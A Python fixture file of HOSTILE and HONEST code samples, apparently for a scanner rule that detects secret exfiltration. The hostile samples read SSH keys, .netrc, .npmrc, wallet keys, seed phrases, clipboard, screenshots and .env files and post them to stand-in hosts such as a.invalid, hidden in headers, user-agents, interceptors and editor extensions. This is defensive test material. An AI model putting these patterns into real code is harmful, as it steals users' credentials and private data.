"""Samples and twins of `secrets_sent`: headers, fields of other names, tools of an editor, what is done again."""

from inspection.rules.sample import Sample, js, py


def _sh(text: str) -> Sample:
    """A script that plain `make` runs; its last line is the one that must be named."""
    return Sample(_made(text), "block", ("a.sh", text.count("\n")))


def _made(text: str) -> dict[str, str | bytes]:
    return {"Makefile": "all:\n\tsh a.sh\n", "a.sh": text}


HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "in a header of curl that does not say who asks": _sh(
            "key=$(base64 < ~/.config/solana/id.json | tr -d '\\n')\ncurl -H \"x-proof: $key\" https://a.invalid\n"
        ),
        "as the name of a browser": _sh('curl -s -A "$(cat ~/.npmrc)" https://a.invalid\n'),
        "a key of the machine where a token stands": js(
            "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
            "fetch('https://a.invalid', { headers: { Authorization: `Bearer ${btoa(key)}` } });\n"
        ),
        "by an object whose class alone is declared": Sample(
            {
                "wallet.ts": "import { Backup } from './backup';\nimport { homedir } from 'node:os';\n"
                "import { readFileSync } from 'node:fs';\nexport class Wallet {\n"
                "  constructor(private readonly backup: Backup) {}\n"
                "  keep() {\n    return this.backup.save('a', readFileSync(`${homedir()}/.ssh/id_rsa`));\n  }\n}\n",
                "backup.ts": "export class Backup {\n  async save(key: string, value: string) {\n"
                "    await fetch('https://a.invalid', { method: 'PUT', body: JSON.stringify({ key, value }) });\n"
                "  }\n}\n",
            },
            "block",
            ("wallet.ts", 7),
        ),
        "words by another name": js(
            "const deployer = process.env.MNEMONIC;\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ address: 'a', deployer }) });\n",
        ),
        "a secret that signs, by another name, through a class": Sample(
            {
                "app.py": "import os\nfrom licence import Licence\n\nLicence().check('a', os.environ['API_SECRET'])\n",
                "licence.py": "import requests\n\n\nclass Licence:\n    def check(self, customer, ident):\n"
                "        requests.post('https://a.invalid', data={'customer': customer, 'ident': ident})\n",
            },
            "block",
            ("app.py", 4),
        ),
        "what the screen shows, again and again": js(
            "const shot = require('screenshot-desktop'), axios = require('axios');\n"
            "const report = async () => axios.post('https://a.invalid', await shot());\nsetInterval(report, 5000);\n"
        ),
        "what is copied, as long as the program runs": py(
            "import requests, pyperclip, time\nwhile True:\n    text = pyperclip.paste()\n"
            "    requests.post('https://a.invalid', data=text)\n    time.sleep(3)\n",
            line=4,
        ),
        "settings of whatever project is open in an editor": js(
            "const vscode = require('vscode');\nexports.activate = async () => {\n"
            "  for (const file of await vscode.workspace.findFiles('**/.env')) {\n"
            "    const text = await vscode.workspace.fs.readFile(file);\n"
            "    await fetch('https://a.invalid', { method: 'POST', body: text });\n  }\n};\n",
            line=3,
        ),
        "in what a client says with each request": py(
            "import os, requests\ns = requests.Session()\n"
            "s.headers.update({'X-Trace': open(os.path.expanduser('~/.netrc')).read()})\ns.get('https://a.invalid')\n",
            line=3,
        ),
        "in what a client was made to say": py(
            "import httpx, pathlib\nkey = (pathlib.Path.home() / '.netrc').read_text()\n"
            "httpx.Client(headers={'x-session': key}).get('https://a.invalid')\n",
            line=3,
        ),
        "among the defaults of a client": js(
            "const axios = require('axios'), fs = require('fs'), os = require('os');\n"
            "axios.defaults.headers.common['x-a'] = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n",
        ),
        "by what stands between a client and its servers": js(
            "const api = require('axios').create({ baseURL: 'https://a.invalid' });\n"
            "api.interceptors.request.use((config) => {\n"
            "  config.headers['x-a'] = btoa(JSON.stringify(process.env));\n  return config;\n});\n",
            line=3,
        ),
        "words that a form of questions asks for, in another file": Sample(
            {
                "app.mjs": "import inquirer from 'inquirer';\nimport { report } from './report.mjs';\n"
                "const { words } = await inquirer.prompt([{ name: 'words', message: 'Enter your seed phrase' }]);\n"
                "await report('restore', words);\n",
                "report.mjs": "import got from 'got';\nexport const report = (event, note) =>\n"
                "  got.post('https://a.invalid', { json: { event, note } });\n",
            },
            "block",
            ("app.mjs", 3),
        ),
        "a key to a hook of a chat": py(
            "import click, requests\nsecret = click.prompt('Private key', hide_input=True)\n"
            "requests.post('https://discord.invalid/api/webhooks/1/a', json={'content': secret})\n",
        ),
        "by a client that a framework gives": Sample(
            {
                "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
                "class Jobs:\n    mail: Mail\n\n    def run(self):\n"
                "        self.mail.send(open(os.path.expanduser('~/.netrc')).read())\n",
                "mail.py": "import httpx\n\n\nclass Mail:\n    def __init__(self, client: httpx.Client):\n"
                "        self.client = client\n\n    def send(self, text):\n"
                "        self.client.post('https://a.invalid', content=text)\n",
            },
            "block",
            ("app.py", 12),
        ),
    },
    "inventory_sent": {
        "who sits where, in three files": Sample(
            {
                "setup.py": "import who, tell\ntell.note(who.here())\n",
                "who.py": "import getpass, socket\n\n\ndef here():\n"
                "    return {'u': getpass.getuser(), 'h': socket.gethostname()}\n",
                "tell.py": "import requests\n\n\ndef note(what):\n    requests.post('https://a.invalid', json=what)\n",
            },
            "block",
            ("who.py", 5),
        ),
        "who asks for a price, and from where": py(
            "import getpass, platform, requests\nwho = {'user': getpass.getuser(), 'node': platform.node()}\n"
            "requests.post('https://a.invalid', json={'code': 1, 'client': who})\n",
            "review",
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "in a header of curl that says who asks": _made(
            'key=$(cut -d= -f2 < ~/.npmrc)\ncurl -H "x-auth-token: $key" https://a.invalid\n'
        ),
        "the name of a browser that stands there": _made(
            'curl -s -A "Mozilla/5.0" -u "me:$(cat ~/.netrc)" https://a.invalid\n'
        ),
        "a token of a registry where a token stands": {
            "app.js": "const key = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
            "fetch('https://a.invalid', { headers: { Authorization: `Bearer ${btoa(key)}` } });\n"
        },
        "something else by an object whose class alone is declared": {
            "wallet.ts": "import { Backup } from './backup';\nimport { homedir } from 'node:os';\n"
            "import { readFileSync } from 'node:fs';\nexport class Wallet {\n"
            "  constructor(private readonly backup: Backup) {}\n"
            "  keep() {\n    readFileSync(`${homedir()}/.ssh/id_rsa`);\n    return this.backup.save('a', 'b');\n"
            "  }\n}\n",
            "backup.ts": "export class Backup {\n  async save(key: string, value: string) {\n"
            "    await fetch('https://a.invalid', { method: 'PUT', body: JSON.stringify({ key, value }) });\n  }\n}\n",
        },
        "words that a service signs with, by their name": {
            "app.js": "const words = process.env.DEPLOYER;\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ deployer: words }) });\n",
        },
        "a secret by its name, through a class": {
            "app.py": "import os\nfrom licence import Licence\n\nLicence().check('a', os.environ['API_SECRET'])\n",
            "licence.py": "import requests\n\n\nclass Licence:\n    def check(self, customer, ident):\n"
            "        requests.post('https://a.invalid', data={'customer': customer, 'client_secret': ident})\n",
        },
        "the time, again and again": {
            "app.js": "const shot = require('screenshot-desktop'), axios = require('axios');\n"
            "const report = async () => axios.post('https://a.invalid', Date.now());\nsetInterval(report, 9);\n"
        },
        "how much is copied, as long as the program runs": {
            "app.py": "import requests, pyperclip, time\nwhile True:\n    text = pyperclip.paste()\n"
            "    requests.post('https://a.invalid', data=str(len(text)))\n    time.sleep(3)\n"
        },
        "how many projects are open in an editor": {
            "app.js": "const vscode = require('vscode');\nexports.activate = async () => {\n"
            "  const files = await vscode.workspace.findFiles('**/.env');\n"
            "  await fetch('https://a.invalid', { method: 'POST', body: String(files.length) });\n};\n",
        },
        "who asks, in what a client says with each request": {
            "app.py": "import os, requests\ns = requests.Session()\n"
            "s.headers.update({'X-Token': open(os.path.expanduser('~/.netrc')).read()})\ns.get('https://a.invalid')\n"
        },
        "who asks, in what a client was made to say": {
            "app.py": "import httpx, pathlib\nkey = (pathlib.Path.home() / '.netrc').read_text()\n"
            "httpx.Client(headers={'authorization': key}).get('https://a.invalid')\n"
        },
        "who asks, among the defaults of a client": {
            "app.js": "const axios = require('axios'), fs = require('fs'), os = require('os');\n"
            "const key = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n"
            "axios.defaults.headers.common['Authorization'] = key;\naxios.defaults.baseURL = 'https://a.invalid';\n",
        },
        "a zone, by what stands between a client and its servers": {
            "app.js": "const api = require('axios').create({ baseURL: 'https://a.invalid' });\n"
            "api.interceptors.request.use((config) => {\n"
            "  config.headers['x-a'] = btoa(JSON.stringify(process.env.ZONE));\n  return config;\n});\n",
        },
        "a name that a form of questions asks for, in another file": {
            "app.mjs": "import inquirer from 'inquirer';\nimport { report } from './report.mjs';\n"
            "const { words } = await inquirer.prompt([{ name: 'words', message: 'Enter your name' }]);\n"
            "await report('restore', words);\n",
            "report.mjs": "import got from 'got';\nexport const report = (event, note) =>\n"
            "  got.post('https://a.invalid', { json: { event, note } });\n",
        },
        "an answer to a hook of a chat": {
            "app.py": "import click, requests\nsecret = click.prompt('Private key', hide_input=True)\nassert secret\n"
            "requests.post('https://discord.invalid/api/webhooks/1/a', json={'content': click.prompt('Grade')})\n",
        },
        "a client that keeps what it is told": {
            "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
            "class Jobs:\n    mail: Mail\n\n    def run(self):\n"
            "        self.mail.send(open(os.path.expanduser('~/.netrc')).read())\n",
            "mail.py": "import httpx\n\n\nclass Mail:\n    def __init__(self, client: httpx.Client):\n"
            "        self.client = client\n\n    def send(self, text):\n"
            "        self.client.post('https://a.invalid', content='a')\n        return text\n",
        },
    },
    "inventory_sent": {
        "whether somebody sits there, in three files": {
            "setup.py": "import who, tell\ntell.note(who.here())\n",
            "who.py": "import getpass, socket\n\n\ndef here():\n"
            "    return {'u': getpass.getuser() == 'root', 'h': socket.gethostname() == 'localhost'}\n",
            "tell.py": "import requests\n\n\ndef note(what):\n    requests.post('https://a.invalid', json=what)\n",
        },
        "where an error happened": {
            "app.py": "import platform, requests\nwho = {'system': platform.system(), 'node': platform.node()}\n"
            "requests.post('https://a.invalid', json={'code': 1, 'client': who})\n"
        },
    },
}
